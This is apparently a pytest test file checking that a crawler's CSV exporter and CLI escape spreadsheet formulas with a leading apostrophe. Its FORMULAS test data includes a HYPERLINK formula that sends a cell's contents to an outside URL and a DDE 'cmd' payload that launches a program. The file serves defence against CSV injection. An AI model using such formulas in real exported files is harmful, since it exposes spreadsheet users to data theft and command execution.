"""CSV that a spreadsheet opens holds text, whatever a page says in it."""

import csv
import io
from decimal import Decimal

import pytest
from scrapy.utils.test import get_crawler

from mediacrawl import settings
from mediacrawl.cli.tables import print_answer
from mediacrawl.corpus.ask import Answer
from mediacrawl.extensions.csvfeed import PlainCsvItemExporter
from mediacrawl.values.spreadsheet import plain_cell

FORMULAS = [
    '=HYPERLINK("http://example.com?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
HARMLESS = ["", "Ships = trade", "a-b", "'quoted'", "العبّارات", " "]


def rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert plain_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays(text):
    assert plain_cell(text) == text


def test_an_answer_has_no_formula_and_its_numbers_stay_numbers(capsys):
    answer = Answer(["=a", "n", "d", "tags", "none"], [("=1+1", -5, Decimal("-1.5"), ["=x"], None)])
    print_answer(answer, "csv")
    assert rows(capsys.readouterr().out) == [
        ["'=a", "n", "d", "tags", "none"],
        ["'=1+1", "-5", "-1.5", '["=x"]', ""],
    ]
    print_answer(answer, "csv", plain=False)
    assert rows(capsys.readouterr().out)[1][0] == "=1+1"


@pytest.mark.parametrize(("plain", "mark"), [(True, "'"), (False, "")])
def test_a_feed_has_no_formula_and_its_numbers_stay_numbers(plain, mark):
    crawler = get_crawler(settings_dict={"MEDIACRAWL_CSV_PLAIN": plain})
    file = io.BytesIO()
    exporter = PlainCsvItemExporter.from_crawler(crawler, file)
    exporter.export_item({"title": "=1+1", "tags": ["@a", "b"], "minutes": -3, "lead": "a-b"})
    exporter.finish_exporting()
    assert rows(file.getvalue().decode())[1] == [f"{mark}=1+1", f"{mark}@a,b", "-3", "a-b"]


def test_the_settings_name_the_exporter():
    assert settings.FEED_EXPORTERS["csv"].rpartition(".")[2] == PlainCsvItemExporter.__name__
    assert settings.MEDIACRAWL_CSV_PLAIN is True
